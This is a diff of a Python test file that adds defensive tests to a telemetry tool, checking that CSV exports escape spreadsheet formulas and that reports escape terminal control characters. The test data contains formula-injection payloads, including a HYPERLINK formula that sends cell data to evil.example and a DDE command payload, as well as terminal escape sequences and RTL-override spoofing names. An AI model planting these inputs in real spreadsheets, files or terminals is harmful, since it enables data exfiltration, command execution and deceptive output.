@@ -4,12 +4,17 @@ nothing (property-based)."""
 
 from __future__ import annotations
 
+import contextlib
+import csv
 import hashlib
+import io
 import os
 import pwd
+import re
 import shutil
 import sqlite3
 import stat
+import sys
 import tempfile
 import traceback
 import warnings
@@ -32,6 +37,9 @@ from telemetry_orm import (
     open_readonly,
 )
 from telemetry_orm.cli import main as cli_main
+from telemetry_orm.formats import EXPORT_FORMATS, write_export
+from telemetry_orm.imports import Item, read_export
+from telemetry_orm.schema import COLUMN_NAMES
 
 # -- helpers -----------------------------------------------------------------------
 
@@ -578,3 +586,182 @@ def test_a_read_in_a_read_only_folder_says_why_and_creates_nothing(shared_dir: P
     assert result.startswith("1: ") and "its folder is read-only" in result, result
     assert result.count("\n") == 1
     assert snapshot(folder) == before
+
+
+# -- outputs that must not act on their reader ---------------------------------------
+
+#: Text a spreadsheet runs as a formula (or would after the first character).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
+#: What a terminal or a Markdown table must never receive raw from the data.
+RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f"
+                         "\u202a-\u202e\u2066-\u2069]")
+
+# Python before 3.11 cannot write or read a NUL in CSV at all.
+_CSV_NUL = sys.version_info >= (3, 11)
+csv_safe_text = (st.text(max_size=30) if _CSV_NUL
+                 else st.text(st.characters(blacklist_characters="\x00"), max_size=30))
+spreadsheet_text = st.tuples(
+    st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=", "'\t", "\r\n",
+                     *(["\x00"] if _CSV_NUL else [])]),
+    csv_safe_text,
+).map("".join)
+some_text = spreadsheet_text.filter(bool)
+
+spreadsheet_records = st.builds(
+    TelemetryRecord,
+    delivery_id=st.none() | some_text, repo=some_text,
+    pr_number=st.none() | st.integers(1, MAX_INT),
+    event_type=some_text, provider=some_text, model=some_text,
+    input_tokens=count, output_tokens=count, cache_read_tokens=count,
+    cache_creation_tokens=count, duration_ms=count, cost_usd=cost, conclusion=some_text,
+    session_id=st.none() | some_text, num_turns=st.none() | count,
+    stop_reason=st.none() | some_text,
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(record=spreadsheet_records)
+def test_any_text_survives_a_csv_export_and_import_exactly_and_starts_no_formula(
+        record: TelemetryRecord) -> None:
+    # As a store returns it: cost_usd is a REAL column.
+    row = (7, "2026-05-01 12:00:00",
+           *(float(v) if name == "cost_usd" else v for name, v in record.as_dict().items()))
+    with tempfile.TemporaryDirectory() as folder:
+        files = {fmt: Path(folder) / f"a.{fmt}" for fmt in EXPORT_FORMATS}
+        for fmt, path in files.items():
+            with open(path, "w", newline="", encoding="utf-8") as out:
+                write_export(COLUMN_NAMES, [row], fmt, out)
+        with open(files["csv"], newline="", encoding="utf-8") as handle:
+            header, cells = list(csv.reader(handle))
+        read = {fmt: list(read_export([path], fmt)) for fmt, path in files.items()}
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert all(isinstance(item, Item) for items in read.values() for item in items), read
+    (from_csv,), (from_jsonl,) = read["csv"], read["jsonl"]
+    assert from_csv.record == record == from_jsonl.record
+    # The two exports of one store give the same keys (importing both adds nothing twice).
+    assert from_csv.key == from_jsonl.key
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
+                 "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=quoted", "'", "plain"]
+WHEN = ("--since", "2026-04-01", "--until", "2026-06-01")
+
+
+def _place_at(path: Path, rows: List[Dict[str, Any]]) -> None:
+    """Record ``rows`` and date them 2026-05-01 (through sqlite3)."""
+    with create_telemetry_store(path) as store:
+        ids = [store.record(minimal(**row)) for row in rows]
+    conn = sqlite3.connect(path)
+    with conn:
+        conn.executemany("UPDATE executions SET created_at = ? WHERE id = ?",
+                         [(f"2026-05-01 {n % 24:02d}:00:00", i) for n, i in enumerate(ids)])
+    conn.close()
+
+
+def _run(*argv: str) -> Tuple[int, str, str]:
+    out, err = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stderr(err):
+        status = cli_main(list(argv), out=out)
+    return status, out.getvalue(), err.getvalue()
+
+
+def _rows(path: Path) -> List[Tuple[Any, ...]]:
+    conn = sqlite3.connect(path)
+    try:
+        return sorted(conn.execute(f"SELECT created_at, {', '.join(FIELD_NAMES)} "
+                                   "FROM executions").fetchall(), key=repr)
+    finally:
+        conn.close()
+
+
+def test_csv_exports_and_reports_guard_formulas_and_import_undoes_it(tmp_path: Path) -> None:
+    source = tmp_path / "a.db"
+    _place_at(source, [dict(repo=name, model=name, event_type=name, session_id=name,
+                            stop_reason=name, delivery_id=name, provider=name,
+                            conclusion=name, cost_usd=1.5) for name in HOSTILE_NAMES])
+    exported = {fmt: tmp_path / f"a.{fmt}" for fmt in EXPORT_FORMATS}
+    for fmt, path in exported.items():
+        assert _run("export", "--db", str(source), "--format", fmt, "--out", str(path))[0] == 0
+    with open(exported["csv"], newline="", encoding="utf-8") as handle:
+        header, *table = list(csv.reader(handle))
+    text_columns = [header.index(name) for name in TEXT_FIELDS]
+    for cells in table:
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
+        name = HOSTILE_NAMES[[c[header.index("repo")] for c in table].index(
+            cells[header.index("repo")])]
+        guarded = "'" + name if name.startswith((*FORMULA_STARTS, "'")) else name
+        assert {cells[i] for i in text_columns} == {guarded}
+    status, text, _ = _run("report", "--db", str(source), *WHEN, "--by", "repo", "--by", "model",
+                           "--format", "csv")
+    assert status == 0
+    report_rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert len(report_rows) == len(HOSTILE_NAMES)
+    assert not [c for row in report_rows for c in row if c.startswith(FORMULA_STARTS)]
+    # Import undoes it: the same rows, and the JSON Lines export adds nothing more.
+    target = tmp_path / "b.db"
+    status, text, _ = _run("import", "csv", str(exported["csv"]), "--db", str(target))
+    assert status == 0 and f"{len(HOSTILE_NAMES)} imported" in text, text
+    assert _rows(target) == _rows(source)
+    status, text, _ = _run("import", "jsonl", str(exported["jsonl"]), "--db", str(target))
+    assert status == 0 and "0 imported" in text, text
+
+
+ATTACK_NAMES = ["\x1b]0;owned\x07", "\x1b[2J\x1b[H", "evil\nTOTAL                 999",
+                "rtl\u202etxt.exe", "c1\x9b31m", "line\u2028sep", "del\x7f"]
+
+
+def _no_raw_control(text: str) -> None:
+    found = RAW_CONTROL.search(text)
+    assert found is None, (found, text)
+
+
+def test_tables_markdown_charts_and_lists_show_names_escaped(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = tmp_path / "t.db"
+    _place_at(path, [dict(repo=name, model=name, cost_usd=2.0) for name in ATTACK_NAMES])
+    monkeypatch.delenv("COLUMNS", raising=False)
+    for columns in (None, "80"):
+        if columns:
+            monkeypatch.setenv("COLUMNS", columns)
+        for argv in (["--by", "repo", "--by", "model"], ["--format", "markdown"],
+                     ["--chart"], ["--by", "model", "--cost", "calculated"]):
+            status, text, err = _run("report", "--db", str(path), *WHEN, *argv)
+            assert status == 0, err
+            _no_raw_control(text)
+            lines = text.split("\n")
+            if "--format" not in argv:  # the table: one totals line, one line a group
+                assert [line for line in lines if line.startswith("TOTAL")] == [
+                    next(line for line in lines if line.startswith("TOTAL"))]
+                rule = next(i for i, line in enumerate(lines) if line and set(line) <= {"-", " "})
+                total = next(i for i, line in enumerate(lines) if line.startswith("TOTAL"))
+                assert total - rule - 2 == len(ATTACK_NAMES)
+            assert "\\x1b]0;owned\\x07" in text or "\\x1b]0;owned\\x…" in text
+    status, text, _ = _run("prices", "--db", str(path))
+    assert status == 0 and "\\x1b[2J\\x1b[H" in text
+    _no_raw_control(text)
+
+
+def test_import_summaries_and_error_lines_show_names_escaped(tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    bad = folder / "evil\x1b[2J\nTOTAL 999.csv"
+    bad.write_text("not,an,export\n1,2,3\n", encoding="utf-8")
+    status, text, err = _run("import", "csv", str(folder), "--db", str(tmp_path / "t.db"))
+    _no_raw_control(text + err)
+    assert "evil\\x1b[2J\\nTOTAL 999.csv" in text, text
+    status, text, err = _run("stats", "--db", str(tmp_path / "no\x1b[31mne.db"))
+    assert status == 1 and err.count("\n") == 1 and "no\\x1b[31mne.db" in err, err
+    _no_raw_control(err)
+
+
+def test_stats_show_a_foreign_time_text_escaped(tmp_path: Path) -> None:
+    path = tmp_path / "t.db"
+    _place_at(path, [{}])
+    conn = sqlite3.connect(path)
+    with conn:  # written by another program: any text
+        conn.execute("UPDATE executions SET created_at = '2026-05-01 00:00:00\x1b[2J'")
+    conn.close()
+    status, text, err = _run("stats", "--db", str(path))
+    assert status == 0, err
+    _no_raw_control(text)
+    assert "2026-05-01 00:00:00\\x1b[2J" in text
